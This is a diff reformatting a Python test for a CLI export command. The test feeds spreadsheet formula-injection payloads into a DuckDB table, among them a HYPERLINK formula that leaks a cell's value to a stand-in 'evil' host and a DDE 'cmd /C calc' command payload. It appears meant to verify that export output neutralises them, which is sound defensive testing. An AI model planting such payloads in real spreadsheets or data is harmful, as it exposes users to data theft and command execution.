@@ -15,8 +15,13 @@ from click.testing import CliRunner
 
 from xxgk.orchestration.cli import main
 
-HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
-           "@SUM(1,1)", "\t=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+]
 PLAIN = ["演示区人社局", "a=b", "(unknown)"]
 
 
@@ -26,14 +31,16 @@ def warehouse(tmp_path: Path) -> Path:
     path.parent.mkdir()
     with duckdb.connect(str(path)) as con:
         con.execute("create table main.dim_reports (agency_name varchar, value double)")
-        con.executemany("insert into main.dim_reports values (?, ?)",
-                        [(text, -1.5) for text in HOSTILE + PLAIN])
+        con.executemany(
+            "insert into main.dim_reports values (?, ?)", [(text, -1.5) for text in HOSTILE + PLAIN]
+        )
     return path
 
 
 def _export(warehouse: Path, to: str, out: Path) -> Path:
-    result = CliRunner().invoke(main, ["export", "--warehouse", str(warehouse), "--to", to,
-                                       "--out", str(out)])
+    result = CliRunner().invoke(
+        main, ["export", "--warehouse", str(warehouse), "--to", to, "--out", str(out)]
+    )
     assert result.exit_code == 0, result.output
     return Path(result.output.strip())
 
